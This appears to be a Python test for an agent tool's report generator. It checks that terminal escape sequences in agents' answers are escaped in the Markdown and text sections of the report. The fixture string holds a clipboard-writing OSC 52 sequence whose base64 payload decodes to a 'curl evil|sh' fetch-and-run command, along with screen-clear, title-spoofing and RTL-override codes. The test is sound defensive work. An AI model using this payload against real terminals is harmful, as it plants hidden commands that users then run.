"""A report aggregates agents' answers, and people `cat` it: the built-in sections of Markdown and text
inputs carry no raw control sequence from an answer (as its JSON tables and status.md do not)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

RAW_IN_FILE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # controls but LF, tab
HOSTILE = "hello \x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b[2J\x1b]0;PWNED\x07 rtl\u202etxt\tTAB\n"


def test_report_sections_escape_what_an_answer_holds(tmp_path: Path) -> None:
    """An answer echoing a hostile document (OSC 52 writes the clipboard, `ESC [2J` clears the screen)
    reaches the report escaped, in a Markdown section and in a fenced text one; the answer keeps them."""
    (tmp_path / "answer.txt").write_text(HOSTILE, encoding="utf-8")
    (tmp_path / "Agentfile").write_text(
        'agent md:\n    inputs = answer.txt\n    outputs = out/a.md\n    run = "cp {input} {output}"\n\n'
        "agent txt:\n    inputs = answer.txt\n    outputs = out/a.log\n"
        '    run = "cp {input} {output}; echo more >> {output}"\n\n'
        "report r:\n    inputs = out/a.md out/a.log\n    output = R.md\n"
    )
    env = {k: v for k, v in os.environ.items() if k != "NO_COLOR"} | {"CI": "1"}
    proc = subprocess.run(
        [sys.executable, "-m", "agentmake", "report"], cwd=tmp_path, env=env, capture_output=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr.decode()
    report = (tmp_path / "R.md").read_text(encoding="utf-8")
    assert not RAW_IN_FILE.search(report), [line for line in report.splitlines() if RAW_IN_FILE.search(line)]
    assert (
        report.count("hello \\x1b]52;c;Y3VybCBldmlsfHNo\\x07 \\x1b[2J\\x1b]0;PWNED\\x07 rtl\\u202etxt\tTAB")
        == 2
    )
    assert (tmp_path / "out" / "a.md").read_text(encoding="utf-8") == HOSTILE  # (the answer is the agent's)
